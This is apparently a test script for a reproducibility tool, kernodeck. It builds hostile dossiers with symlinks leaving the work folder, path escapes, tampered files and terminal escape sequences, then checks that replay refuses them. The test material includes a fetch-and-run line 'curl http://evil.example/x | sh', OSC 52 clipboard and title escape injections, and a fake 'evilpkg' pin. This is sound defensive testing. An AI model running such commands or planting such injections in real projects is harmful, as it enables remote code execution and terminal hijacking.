#!/bin/sh
# kd-test: long (started first: see tests/run-all.sh)
# replay-hostile.sh - the table of hostile dossiers and repositories
# (tests/hostile/replay.tsv): each row makes a project, its dossier, and
# one hostile change (a link committed where kernodeck writes, a path
# field that leaves the work folder, a file that differs from the
# dossier's copy, control bytes in a string the plan shows), re-signs the
# dossier (SHA256SUMS recomputed) and replays it; it checks the exit
# status, the message, that the folder outside stays empty and that no
# raw control byte was printed.  A row with a procedure message is checked
# through both paths: procedure.sh is made again from the hostile dossier
# (tests/helpers/procedure-again, as replay makes it to compare), and
# `bash procedure.sh` must stop with that message before it sets or runs
# anything (its work folder is never made, the payload never runs).
# KD_HOSTILE=NAME runs one row, KD_HOSTILE_SHOW=1 prints each output.
. "$KD_SRCDIR/tests/lib.sh"
PY=/usr/bin/python3
TABLE="$KD_SRCDIR/tests/hostile/replay.tsv"
OUT="$KD_TMP/outside"

# raw FILE: raw control bytes (but tab, newline) and non-UTF-8 bytes
raw() {
	$PY -c "
import re, sys
b = open(sys.argv[1], 'rb').read()
t = b.decode('utf-8', 'replace')
print(len(re.findall(rb'[\x00-\x08\x0b-\x1f\x7f]', b)) + t.count('\ufffd') + len(re.findall('[\x80-\x9f]', t)))" "$1"
}
# resign D: SHA256SUMS of every file, as anyone can compute it
resign() {
	$PY - "$1" <<'PYEOF'
import hashlib, os, sys
d = sys.argv[1]
lines = []
for root, dirs, files in os.walk(d):
    for f in files:
        p = os.path.join(root, f)
        rel = os.path.relpath(p, d)
        if rel == "SHA256SUMS":
            continue
        lines.append("%s  %s\n" % (hashlib.sha256(open(p, "rb").read()).hexdigest(), rel))
open(os.path.join(d, "SHA256SUMS"), "w").write("".join(sorted(lines, key=lambda l: l[66:])))
PYEOF
}
# setref D KEY=VALUE: set a field of the dossier's reference (a YAML
# value when it starts with [ or {, else text in which \uHHHH and \n
# stand for the character; @OUTSIDE@ is the folder outside, @PAYLOAD@ the
# payload folder)
setref() {
	$PY - "$1/kernodeck/reference.yaml" "$2" "$OUT" "$KD_TMP/payload" <<'PYEOF'
import re, sys, yaml
p, kv = sys.argv[1], sys.argv[2]
k, v = kv.split("=", 1)
v = v.replace("@OUTSIDE@", sys.argv[3]).replace("@PAYLOAD@", sys.argv[4])
if v[:1] not in "[{":
    v = re.sub(r"\\u([0-9a-fA-F]{4})|\\n", lambda m: chr(int(m.group(1), 16)) if m.group(1) else "\n", v)
d = yaml.safe_load(open(p))
cur = d
keys = k.split(".")
for x in keys[:-1]:
    cur = cur.setdefault(x, {})
cur[keys[-1]] = yaml.safe_load(v) if v[:1] in "[{" else v
yaml.safe_dump(d, open(p, "w"), sort_keys=False)
PYEOF
}
# setenv D NAME=VALUE: set a variable of dossier.yaml's environment
# (@PAYLOAD@ in VALUE is the payload folder; \uHHHH and \n as in setref)
setenv() {
	$PY - "$1/dossier.yaml" "$2" "$KD_TMP/payload" <<'PYEOF'
import re, sys, yaml
p, kv, pl = sys.argv[1], sys.argv[2], sys.argv[3]
k, v = kv.split("=", 1)
v = re.sub(r"\\u([0-9a-fA-F]{4})|\\n", lambda m: chr(int(m.group(1), 16)) if m.group(1) else "\n", v)
d = yaml.safe_load(open(p))
d.setdefault("environment", {})[k] = v.replace("@PAYLOAD@", pl)
yaml.safe_dump(d, open(p, "w"), sort_keys=False)
PYEOF
}
# the payload a hostile variable would run: each piece writes into $OUT
payload() {
	mkdir -p "$KD_TMP/payload"
	printf '#!/bin/sh\ntouch "%s/ran-$(basename "$0")"\n' "$OUT" >"$KD_TMP/payload/payload.sh"
	for t in git python3 python bash sh env; do cp "$KD_TMP/payload/payload.sh" "$KD_TMP/payload/$t"; done
	printf 'open("%s/ran-python", "w").close()\n' "$OUT" >"$KD_TMP/payload/sitecustomize.py"
	cp "$KD_TMP/payload/sitecustomize.py" "$KD_TMP/payload/payload.py"
	chmod +x "$KD_TMP/payload/"*
}

# project NAME: a project with a rebuild file and an inventory, committed
project() {
	P="$KD_TMP/$1/p"
	mkdir -p "$P/kernodeck"
	echo "print('hello')" >"$P/main.py"
	printf 'numpy\n' >"$P/requirements-rebuild.txt"
	printf 'numpy==1.24.2\n' >"$P/inv.txt"
	git -C "$P" init -q
	git -C "$P" add main.py requirements-rebuild.txt inv.txt
	git -C "$P" commit -qm init
}
reference() {
	cat >"$P/kernodeck/reference.yaml" <<YAML
schema: 1
code:
  commit: $(git -C "$P" rev-parse HEAD)
  entry_point: ${ENTRY:-[python, main.py]}
result:
  outputs: ${OUTS:-outputs}
python:
  interpreter: /usr/bin/python3
  inventory: inv.txt
YAML
}

# by_hand NAME MESSAGE: procedure.sh made again from the hostile dossier
# $D, run with bash; prints why it failed, or nothing
by_hand() {
	"$KD_BUILDDIR/tests/helpers/procedure-again" "$D" || { echo "procedure-again failed"; return; }
	resign "$D"
	rm -rf "$OUT"; mkdir -p "$OUT"
	PW="$KD_TMP/$1/pw"
	(cd "$KD_TMP/$1" && timeout 120 bash "$D/procedure.sh" "$PW" </dev/null >"$KD_TMP/$1/proc.out" 2>&1)
	pgot=$?
	[ -n "${KD_HOSTILE_SHOW:-}" ] && sed "s/^/# $1 (procedure.sh): /" "$KD_TMP/$1/proc.out"
	case "$2" in
	clone:*)
		# found only in the clone (a link the repository holds): exit 1 there
		[ "$pgot" -eq 1 ] || printf 'procedure.sh exit %s, wanted 1; ' "$pgot"
		grep -qF -- "${2#clone:}" "$KD_TMP/$1/proc.out" ||
			printf 'no "%s" in procedure.sh'"'"'s output; ' "${2#clone:}" ;;
	*)
		[ "$pgot" -eq 2 ] || printf 'procedure.sh exit %s, wanted 2; ' "$pgot"
		grep -qF -- "$2" "$KD_TMP/$1/proc.out" || printf 'no "%s" in procedure.sh'"'"'s output; ' "$2"
		[ ! -e "$PW" ] || printf 'procedure.sh went on (made %s); ' "$PW" ;;
	esac
	[ -z "$(ls -A "$OUT")" ] || printf 'the payload ran through procedure.sh: %s; ' "$(ls -A "$OUT" | tr '\n' ' ')"
	c=$(raw "$KD_TMP/$1/proc.out")
	[ "$c" -eq 0 ] || printf '%s raw control bytes printed by procedure.sh; ' "$c"
}

run_row() { # name how exit message procedure-message known
	name=$1 how=$2 want=$3 msg=$4 pmsg=$5 known=$6
	ENTRY= OUTS=
	project "$name"
	yes=--yes
	rm -rf "$OUT"; mkdir -p "$OUT"
	# changes to the repository come before the dossier (its commit)
	oldifs=$IFS; IFS=';'
	for step in $how; do
		IFS=$oldifs
		case "$step" in
		link:*)
			l=${step#link:}
			mkdir -p "$P/$(dirname "$l")"
			rm -rf "${P:?}/$l"
			ln -s "$OUT" "$P/$l"
			git -C "$P" add -f "$l" && git -C "$P" commit -qm link
			# the project's own kernodeck folder stays a folder: only the
			# recorded commit holds the link
			if [ "$l" = kernodeck ]; then rm "$P/kernodeck"; mkdir "$P/kernodeck"; fi ;;
		flink:*)
			l=${step#flink:}
			cp "$P/$l" "$KD_TMP/$name/outside-file"
			rm -f "$P/$l"
			ln -s "$KD_TMP/$name/outside-file" "$P/$l"
			git -C "$P" add -f "$l" && git -C "$P" commit -qm link ;;
		outs:*) OUTS=${step#outs:} ;;
		inc:*)
			# the rebuild file includes FILE (-r), which holds a pin
			l=${step#inc:}
			mkdir -p "$P/$(dirname "$l")"
			printf 'numpy==1.24.2\n' >"$P/$l"
			printf -- '-r %s\n' "$l" >>"$P/requirements-rebuild.txt"
			git -C "$P" add "$l" requirements-rebuild.txt && git -C "$P" commit -qm include ;;
		nest:*)
			# the rebuild file includes A, which names B with -c,
			# relative to A's folder
			a=${step#nest:}; b=${a#*,}; a=${a%%,*}
			mkdir -p "$P/$(dirname "$a")"
			printf -- '-c %s\n' "$b" >"$P/$a"
			printf 'numpy==1.24.2\n' >"$P/$(dirname "$a")/$b"
			printf -- '-r %s\n' "$a" >>"$P/requirements-rebuild.txt"
			git -C "$P" add -A . && git -C "$P" commit -qm nested ;;
		esc:entry)
			ENTRY='[python, main.py, "--tag=\e]0;PWNED\a"]' ;;
		esc:rebuild)
			printf 'numpy  # \033]52;c;aGVsbG8=\007 \033[2K\r\n' >"$P/requirements-rebuild.txt"
			git -C "$P" commit -qam esc ;;
		esac
		IFS=';'
	done
	IFS=$oldifs
	reference
	"$KD_BIN" dossier "$P" >"$KD_TMP/$name/dossier.out" 2>&1
	D="$P/kernodeck/dossier"
	IFS=';'
	for step in $how; do
		IFS=$oldifs
		case "$step" in
		field:*) setref "$D" "${step#field:}" ;;
		env:*) setenv "$D" "${step#env:}" ;;
		copy:*) echo "evilpkg==6.6.6" >>"$D/project/${step#copy:}" ;;
		drop:*) rm -f "$D/project/${step#drop:}" ;;
		line:*)
			# a line added to the dossier's copy of the rebuild file
			echo "${step#line:}" >>"$D/project/requirements-rebuild.txt" ;;
		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
		again)
			# procedure.sh made again from the changed reference, as
			# anyone can: the refusal must come from elsewhere
			"$KD_BUILDDIR/tests/helpers/procedure-again" "$D" ;;
		declined) yes= ;;
		esc:entry) yes= ;;
		esc:rebuild) yes= ;;
		esac
		IFS=';'
	done
	IFS=$oldifs
	resign "$D"
	W="$KD_TMP/$name/w"
	# shellcheck disable=SC2086
	timeout 120 "$KD_BIN" replay "$D" --workdir "$W" $yes </dev/null >"$KD_TMP/$name/out" 2>&1
	got=$?
	why=
	[ "$got" -eq "$want" ] || why="exit $got, wanted $want"
	grep -qF -- "$msg" "$KD_TMP/$name/out" || why="${why:+$why; }no \"$msg\" in the output"
	[ -z "$(ls -A "$OUT")" ] || why="${why:+$why; }something was written outside: $(ls -A "$OUT" | head -n 3 | tr '\n' ' ')"
	c=$(raw "$KD_TMP/$name/out")
	[ "$c" -eq 0 ] || why="${why:+$why; }$c raw control bytes printed"
	[ -n "${KD_HOSTILE_SHOW:-}" ] && sed "s/^/# $name: /" "$KD_TMP/$name/out"
	if [ -n "$pmsg" ]; then
		pwhy=$(by_hand "$name" "$pmsg")
		[ -z "$pwhy" ] || why="${why:+$why; }${pwhy%; }"
	fi
	if [ -z "$why" ] && [ -n "$known" ]; then
		ok "replay-hostile $name (exit $got; marked as a known bug but it passes: remove the mark)"
	elif [ -z "$why" ]; then
		ok "replay-hostile $name (exit $got)"
	elif [ -n "$known" ]; then
		skip "replay-hostile $name" "known bug: $known ($why)"
	else
		notok "replay-hostile $name: $why"
		sed 's/^/#   /' "$KD_TMP/$name/out" | tail -n 8
	fi
}

if ! $PY -c "import yaml" 2>/dev/null; then
	skip "replay-hostile" "python3-yaml is needed to edit the dossiers"
	exit 0
fi
payload
nrows=0 nboth=0
tab=$(printf '\t')
while IFS="$tab" read -r name how want msg pmsg known; do
	case "$name" in ''|'#'*) continue ;; esac
	[ -n "${KD_HOSTILE:-}" ] && [ "$name" != "$KD_HOSTILE" ] && continue
	nrows=$((nrows + 1))
	[ "$pmsg" != - ] || pmsg=
	[ -z "$pmsg" ] || nboth=$((nboth + 1))
	run_row "$name" "$how" "$want" "$msg" "$pmsg" "$known"
done <"$TABLE"
[ -n "${KD_HOSTILE:-}" ] || check "the replay table has $nrows rows (at least 45), $nboth through procedure.sh too (at least 20)" \
	test "$nrows" -ge 45 -a "$nboth" -ge 20

# an include that leaves the project cannot go into a dossier: the clone
# would not hold it, and the replay could not compare it
if [ -z "${KD_HOSTILE:-}" ]; then
	project include-escapes-dossier
	mkdir -p "$P/reqs"
	printf -- '-c ../../up.txt\n' >"$P/reqs/a.txt"
	printf -- '-r reqs/a.txt\n' >>"$P/requirements-rebuild.txt"
	git -C "$P" add -A . && git -C "$P" commit -qm nested
	reference
	"$KD_BIN" dossier "$P" >"$KD_TMP/dossier-escapes.out" 2>&1
	r=$?
	check "kernodeck dossier: an include that leaves the project is refused (exit 2)" test "$r" -eq 2
	check "kernodeck dossier: the including file and the value named" \
		grep -qF "reqs/a.txt names -c ../../up.txt, a path that leaves the project" \
		"$KD_TMP/dossier-escapes.out"
	check "kernodeck dossier: no dossier written" test ! -e "$P/kernodeck/dossier"
fi
